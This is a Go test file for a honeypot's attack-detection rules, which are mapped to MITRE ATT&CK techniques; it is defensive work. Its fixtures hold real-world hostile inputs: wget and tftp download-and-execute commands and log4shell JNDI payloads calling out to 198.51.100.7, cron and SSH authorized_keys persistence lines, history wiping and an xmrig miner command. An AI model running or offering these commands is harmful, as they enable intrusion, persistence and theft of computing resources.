package attack

import (
	"testing"

	eventv1 "github.com/decnet/decnet/gen/decnet/event/v1"
)

// Each stateless default rule fires on a realistic event and stays quiet
// on a near miss that shares most of its text.
func TestDefaultRulesStateless(t *testing.T) {
	rs := Default()
	accepted, rejected := eventv1.AuthOutcome_AUTH_OUTCOME_ACCEPTED, eventv1.AuthOutcome_AUTH_OUTCOME_REJECTED

	tests := []struct {
		rule     string
		hit      *eventv1.Event
		nearMiss *eventv1.Event
	}{
		{"valid-accounts", auth("root", "123456", accepted), auth("root", "123456", rejected)},
		{"exploit-public-facing-app", httpReq("GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "Go-http-client/1.1"), httpReq("GET", "/vendor/autoload.php", "Go-http-client/1.1")},
		{"exploit-public-facing-app", httpReq("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "curl/8.0"), httpReq("GET", "/cgi-bin/test.cgi", "curl/8.0")},
		{"exploit-public-facing-app", httpReq("POST", "/GponForm/diag_Form?images/", "Hello, World"), httpReq("POST", "/login", "Hello, World")},
		{"exploit-public-facing-app", httpReq("GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/jaws;sh+/tmp/jaws", "Hello, world"), httpReq("GET", "/shell.php", "Hello, world")},
		{"exploit-public-facing-app", httpReq("GET", "/?x=${jndi:ldap://198.51.100.7/a}", "Mozilla/5.0"), httpReq("GET", "/?x=jndi", "Mozilla/5.0")},
		{"exploit-public-facing-app", httpReq("GET", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array", "Mozilla/5.0"), httpReq("GET", "/index.php?s=/Index", "Mozilla/5.0")},
		{"exploit-log4shell-header", httpReq("GET", "/", "${jndi:ldap://198.51.100.7:1389/Exploit}"), httpReq("GET", "/", "Mozilla/5.0 (jndi)")},
		{"scanner-user-agent", httpReq("GET", "/", "Mozilla/5.0 zgrab/0.x"), httpReq("GET", "/", "Mozilla/5.0 (X11; Linux x86_64)")},
		{"vulnerability-scanner-user-agent", httpReq("GET", "/", "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"), httpReq("GET", "/", "curl/7.88.1")},
		{"unix-shell", cmd("cd /tmp"), httpReq("GET", "/cd", "curl/7.88.1")},
		{"ingress-download-request", download("http://198.51.100.7/bins/x86"), cmd("echo http://198.51.100.7/bins/x86")},
		{"ingress-upload", captured("x86", "ftp_stor", ""), requested("x86")},
		{"ingress-transfer-command", cmd("cd /tmp; wget http://198.51.100.7/x86; chmod +x x86"), cmd("echo wget is missing")},
		{"ingress-transfer-command", cmd("busybox tftp -g -r mips 198.51.100.7"), cmd("cat tftp.conf")},
		{"protocol-tunneling", forward("tcpip-forward"), forward("direct-tcpip")},
		{"proxy-direct-tcpip", forward("direct-tcpip"), forward("tcpip-forward")},
		{"system-information-discovery", cmd("uname -a"), cmd("echo uname")},
		{"system-information-discovery", cmd("cat /proc/cpuinfo | grep name | wc -l"), cmd("cat /proc/self/status")},
		{"system-information-discovery", cmd("lscpu | grep Model"), cmd("lscpus")},
		{"file-and-directory-discovery", cmd("ls -la /tmp"), cmd("lsof -i")},
		{"file-and-directory-discovery", cmd("cd /; find / -name '*.conf'"), cmd("echo find")},
		{"process-discovery", cmd("ps aux | grep miner"), cmd("psql -l")},
		{"process-discovery", cmd("/bin/ps -ef"), cmd("echo ps")},
		{"network-configuration-discovery", cmd("ip a"), cmd("ipcalc 10.0.0.0/8")},
		{"network-configuration-discovery", cmd("/sbin/ifconfig eth0"), cmd("echo ifconfig")},
		{"network-configuration-discovery", cmd("cat /etc/resolv.conf"), cmd("cat /etc/resolv")},
		{"system-owner-user-discovery", cmd("whoami"), cmd("echo whoami")},
		{"system-owner-user-discovery", cmd("id; w"), cmd("idle")},
		{"system-owner-user-discovery", cmd("w"), cmd("wget")},
		{"cron", cmd("(crontab -l; echo '* * * * * /tmp/.x') | crontab -"), cmd("echo crontab")},
		{"cron", cmd("echo '*/5 * * * * root /tmp/x' >> /etc/cron.d/x"), cmd("cat /etc/cron.d/x")},
		{"ssh-authorized-keys-command", cmd(`mkdir -p ~/.ssh; echo "ssh-rsa AAAAB3Nza mdrfckr" >> ~/.ssh/authorized_keys`), cmd("cat ~/.ssh/authorized_keys")},
		{"ssh-authorized-keys-command", cmd("chattr -ia ~/.ssh/authorized_keys"), cmd("ls -la ~/.ssh")},
		{"ssh-authorized-keys-upload", captured("/root/.ssh/authorized_keys", "scp", ""), captured("/root/.ssh/authorized_keys.bak", "scp", "")},
		{"clear-command-history", cmd("history -c"), cmd("history")},
		{"clear-command-history", cmd("unset HISTFILE; export HISTSIZE=0"), cmd("echo $HISTFILE")},
		{"clear-command-history", cmd("rm -rf ~/.bash_history"), cmd("cat ~/.bash_history")},
		{"clear-command-history", cmd("cat /dev/null > ~/.bash_history"), cmd("cat ~/.bash_history > /tmp/h")},
		{"resource-hijacking-command", cmd("./xmrig -o stratum+tcp://pool.example:3333 -u wallet"), cmd("./minecraft-server")},
		{"resource-hijacking-command", cmd("nohup ./kdevtmpfsi &"), cmd("nohup ./server &")},
		{"resource-hijacking-download", download("http://198.51.100.7/xmrig.tar.gz"), download("http://198.51.100.7/nginx.tar.gz")},
		{"resource-hijacking-download", captured("kinsing", "download", "http://198.51.100.7/kinsing"), captured("kinsing", "ftp_stor", "")},
	}
	for _, tt := range tests {
		t.Run(tt.rule, func(t *testing.T) {
			if got := ruleIDs(rs.Match(tt.hit)); !got[tt.rule] {
				t.Errorf("Match(hit) = %v, want %s", got, tt.rule)
			}
			if got := ruleIDs(rs.Match(tt.nearMiss)); got[tt.rule] {
				t.Errorf("Match(near miss) = %v, did not want %s", got, tt.rule)
			}
		})
	}
}

// Every default rule is exercised somewhere in this package's tests, so
// a rule cannot be added without a case.
func TestDefaultRulesCovered(t *testing.T) {
	covered := map[string]bool{
		"brute-force": true, "password-guessing": true, "password-spraying": true,
		"credential-stuffing-targets": true, "credential-stuffing-reuse": true,
		"active-scanning": true,
	}
	stateless := []string{
		"valid-accounts", "exploit-public-facing-app", "exploit-log4shell-header",
		"scanner-user-agent", "vulnerability-scanner-user-agent", "unix-shell",
		"ingress-download-request", "ingress-upload", "ingress-transfer-command",
		"protocol-tunneling", "proxy-direct-tcpip", "system-information-discovery",
		"file-and-directory-discovery", "process-discovery", "network-configuration-discovery",
		"system-owner-user-discovery", "cron", "ssh-authorized-keys-command",
		"ssh-authorized-keys-upload", "clear-command-history", "resource-hijacking-command",
		"resource-hijacking-download",
	}
	for _, id := range stateless {
		covered[id] = true
	}
	for _, tag := range Default().Techniques() {
		if !covered[tag.RuleID] {
			t.Errorf("default rule %s has no test case", tag.RuleID)
		}
	}
	if got, want := Default().Len(), len(covered); got != want {
		t.Errorf("Default().Len() = %d, want %d", got, want)
	}
}

// The technique names are MITRE ATT&CK Enterprise v18's; a typo here
// would leak into every STIX and MISP export.
func TestDefaultTechniqueNames(t *testing.T) {
	want := map[string]string{
		"T1110":     "Brute Force",
		"T1110.001": "Brute Force: Password Guessing",
		"T1110.003": "Brute Force: Password Spraying",
		"T1110.004": "Brute Force: Credential Stuffing",
		"T1078":     "Valid Accounts",
		"T1059.004": "Command and Scripting Interpreter: Unix Shell",
		"T1105":     "Ingress Tool Transfer",
		"T1082":     "System Information Discovery",
		"T1083":     "File and Directory Discovery",
		"T1057":     "Process Discovery",
		"T1016":     "System Network Configuration Discovery",
		"T1033":     "System Owner/User Discovery",
		"T1053.003": "Scheduled Task/Job: Cron",
		"T1098.004": "Account Manipulation: SSH Authorized Keys",
		"T1070.003": "Indicator Removal: Clear Command History",
		"T1496":     "Resource Hijacking",
		"T1572":     "Protocol Tunneling",
		"T1090":     "Proxy",
		"T1595":     "Active Scanning",
		"T1595.002": "Active Scanning: Vulnerability Scanning",
		"T1190":     "Exploit Public-Facing Application",
	}
	seen := map[string]bool{}
	for _, tag := range Default().Techniques() {
		name, ok := want[tag.TechniqueID]
		if !ok {
			t.Errorf("rule %s: technique %s not in the reviewed list", tag.RuleID, tag.TechniqueID)
			continue
		}
		if tag.TechniqueName != name {
			t.Errorf("rule %s: name %q, want %q", tag.RuleID, tag.TechniqueName, name)
		}
		seen[tag.TechniqueID] = true
	}
	for id := range want {
		if !seen[id] {
			t.Errorf("technique %s has no default rule", id)
		}
	}
}
